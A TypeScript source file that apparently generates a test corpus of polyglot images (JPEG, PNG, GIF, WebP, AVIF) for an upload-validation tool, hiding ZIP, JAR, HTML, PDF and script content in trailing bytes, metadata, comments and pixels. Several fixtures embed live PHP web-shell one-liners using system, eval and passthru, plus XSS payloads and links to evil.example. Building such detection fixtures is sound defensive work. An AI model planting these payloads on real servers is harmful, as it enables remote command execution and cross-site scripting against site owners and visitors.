import type { CorpusItem } from './corpus-item';
import { makeZip, randomBytes } from './bytes';
import { polyglot, type Sources, text, unsupported } from './corpus-kit';
import {
  commentSegment,
  extendedWebp,
  gifExtension,
  handPng,
  insertBeforeScan,
  insertGifBlocks,
  insertJpegSegments,
  insertPngChunks,
  itxtChunk,
  jpegSegment,
  pngChunk,
  riffChunk,
  riffWebp,
  textChunk,
  webpChunks,
} from './image-bytes';
import { buildExifTiff, exifSegment, xmpPacket } from './metadata-bytes';
import { fromScene, type RawScene } from './scenes';

/*
 * Polyglots: images that are also HTML, scripts, PHP, ZIP/JAR or PDF, by appended data, by payloads in
 * metadata, comments and private chunks, or by raw pixel bytes; and images with unexplained trailing bytes.
 */

export async function polyglotItems(s: Sources, land: RawScene): Promise<CorpusItem[]> {
  const zip = makeZip([
    { name: 'index.html', data: text('<html><script>alert(1)</script></html>') },
    { name: 'readme.txt', data: text('payload') },
  ]);
  const jar = makeZip([
    { name: 'META-INF/MANIFEST.MF', data: text('Manifest-Version: 1.0\r\nMain-Class: Evil\r\n') },
    { name: 'Evil.class', data: Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(60)]) },
  ]);
  const html = text('<html><body><script>alert(document.domain)</script></body></html>');
  const comment = (t: string) => insertJpegSegments(s.jpeg, [commentSegment(t)]);
  const mpf = jpegSegment(0xe2, Buffer.from('MPF\0MM\0*\0\0\0\x08\0\0', 'latin1'));
  const second = await fromScene(land).resize(150, 100).jpeg().toBuffer();
  const scriptPixels = Buffer.from('<script>alert(1)</script>', 'latin1');
  const stored = handPng(
    256,
    256,
    (x, y) => {
      const i = (y * 256 + x) * 3;
      const c = (k: number) => scriptPixels[(i + k) % scriptPixels.length]!;
      return [c(0), c(1), c(2)];
    },
    { stored: true },
  );
  const w = webpChunks(s.webp).map((c) => riffChunk(c.fourcc, c.data));

  return [
    polyglot('polyglot/jpeg+zip.jpg', Buffer.concat([s.jpeg, zip]), 'ZIP appended after EOI'),
    polyglot('polyglot/jpeg+html.jpg', Buffer.concat([s.jpeg, html]), 'HTML appended after EOI'),
    polyglot(
      'polyglot/jpeg+php.jpg',
      Buffer.concat([s.jpeg, text('<?php eval($_POST[1]);')]),
      'PHP after EOI',
    ),
    polyglot('polyglot/png+html.png', Buffer.concat([s.png, html]), 'HTML appended after IEND'),
    polyglot('polyglot/png+zip.png', Buffer.concat([s.png, zip]), 'ZIP appended after IEND'),
    polyglot('polyglot/gifar.gif', Buffer.concat([s.gif, jar]), 'GIFAR: a JAR appended to a GIF'),
    polyglot('polyglot/webp+html.webp', Buffer.concat([s.webp, html]), 'HTML beyond the RIFF size'),
    polyglot('polyglot/webp+zip.webp', Buffer.concat([s.webp, zip]), 'ZIP beyond the RIFF size'),
    polyglot('polyglot/avif+zip.avif', Buffer.concat([s.avif, zip]), 'ZIP after the last box'),
    polyglot('polyglot/avif+html.avif', Buffer.concat([s.avif, html]), 'HTML after the last box'),
    polyglot('polyglot/jpeg+jpeg.jpg', Buffer.concat([s.jpeg, second]), 'a second JPEG without an MPF index'),
    polyglot('polyglot/com-script.jpg', comment('<script>alert(1)</script>'), '<script> in a JPEG comment'),
    polyglot('polyglot/com-mixed-case.jpg', comment('<ScRiPt SRC=//evil.example></sCrIpT>'), 'mixed case'),
    polyglot('polyglot/com-pdf.jpg', comment('%PDF-1.7\n1 0 obj'), 'PDF header inside a comment'),
    polyglot(
      'polyglot/com-zip-eocd.jpg',
      comment(`PK\x05\x06${'\0'.repeat(18)}`),
      'ZIP directory end in a comment',
    ),
    polyglot(
      'polyglot/com-late-zip.jpg',
      insertBeforeScan(s.jpeg, [commentSegment(zip)]),
      'ZIP inside a comment just before the scan',
    ),
    polyglot(
      'polyglot/app15-svg.jpg',
      insertJpegSegments(s.jpeg, [jpegSegment(0xef, text('<svg onload=alert(1)>'))]),
      '<svg onload> in an APP15 segment',
    ),
    polyglot(
      'polyglot/exif-javascript.jpg',
      insertJpegSegments(s.jpeg, [exifSegment(buildExifTiff({ description: 'javascript:alert(1)' }))]),
      'javascript: URL in EXIF ImageDescription',
    ),
    polyglot(
      'polyglot/xmp-html.jpg',
      insertJpegSegments(s.jpeg, [
        jpegSegment(0xe1, text(`http://ns.adobe.com/xap/1.0/\0${xmpPacket('<html >')}`)),
      ]),
      '<html> inside XMP',
    ),
    polyglot(
      'polyglot/mpf-second-has-script.jpg',
      Buffer.concat([
        insertJpegSegments(s.jpeg, [mpf]),
        insertJpegSegments(second, [commentSegment('<script>x</script>')]),
      ]),
      'MPF second image carrying a script comment',
    ),
    polyglot(
      'polyglot/mpf-then-zip.jpg',
      Buffer.concat([insertJpegSegments(s.jpeg, [mpf]), second, zip]),
      'MPF images followed by a ZIP',
    ),
    polyglot(
      'polyglot/png-text-php.png',
      insertPngChunks(s.png, [textChunk('Comment', '<?php system($_GET["c"]); ?>')]),
      '<?php in a tEXt chunk',
    ),
    polyglot(
      'polyglot/png-text-php-nospace.png',
      insertPngChunks(s.png, [textChunk('Comment', '<?php/**/passthru($_GET[0]);')], 'tail'),
      '<?php without a space, in a tEXt chunk at the end',
    ),
    polyglot(
      'polyglot/png-itxt-doctype.png',
      insertPngChunks(s.png, [itxtChunk('Description', '<!DOCTYPE html><p>hi')]),
      '<!DOCTYPE html> in an iTXt chunk',
    ),
    polyglot(
      'polyglot/png-private-zip.png',
      insertPngChunks(s.png, [pngChunk('prIv', zip)], 'tail'),
      'ZIP inside a private chunk',
    ),
    polyglot('polyglot/png-pixels-script.png', stored, '<script> spelled by raw pixels in a stored IDAT'),
    polyglot(
      'polyglot/gif-comment-iframe.gif',
      insertGifBlocks(s.gif, [gifExtension(0xfe, text('<iframe src="//evil.example">'))]),
      '<iframe in a GIF comment',
    ),
    polyglot(
      'polyglot/gif-comment-split-script.gif',
      insertGifBlocks(s.gif, [gifExtension(0xfe, text('<script>alert(1)</script>'), 4)]),
      '<script> split across 4-byte sub-blocks',
    ),
    polyglot(
      'polyglot/webp-xmp-html.webp',
      extendedWebp(s.webp, 600, 400, { xmp: '<html><body>x</body></html>' }),
      '<html> in a WebP XMP chunk',
    ),
    polyglot(
      'polyglot/webp-unknown-svg.webp',
      riffWebp([...w, riffChunk('ZZZZ', text('<svg/onload=alert(1)>'))]),
      '<svg/onload> in an unknown RIFF chunk',
    ),
    polyglot(
      'polyglot/avif-xmp-script.avif',
      await fromScene(land)
        .resize(300, 200)
        .withXmp(xmpPacket('<script>alert(1)</script>'))
        .avif({ effort: 1 })
        .toBuffer(),
      '<script> in an AVIF XMP item',
    ),
    unsupported(
      'polyglot/jpeg-trailing-garbage.jpg',
      Buffer.concat([s.jpeg, Buffer.from('ZZ'), randomBytes(77, 300)]),
      'trailing_data',
      'unknown bytes after EOI',
    ),
    unsupported(
      'polyglot/jpeg-big-zero-padding.jpg',
      Buffer.concat([s.jpeg, Buffer.alloc(5000)]),
      'trailing_data',
      'more zero padding than a block',
    ),
    unsupported(
      'polyglot/png-trailing-garbage.png',
      Buffer.concat([s.png, Buffer.from('ZZ'), randomBytes(78, 300)]),
      'trailing_data',
      'bytes after IEND',
    ),
    unsupported(
      'polyglot/gif-trailing-garbage.gif',
      Buffer.concat([s.gif, Buffer.from('ZZ'), randomBytes(79, 300)]),
      'trailing_data',
      'bytes after the trailer',
    ),
    unsupported(
      'polyglot/webp-trailing-garbage.webp',
      Buffer.concat([s.webp, Buffer.from('ZZ'), randomBytes(80, 300)]),
      'trailing_data',
      'bytes beyond the RIFF size',
    ),
  ];
}
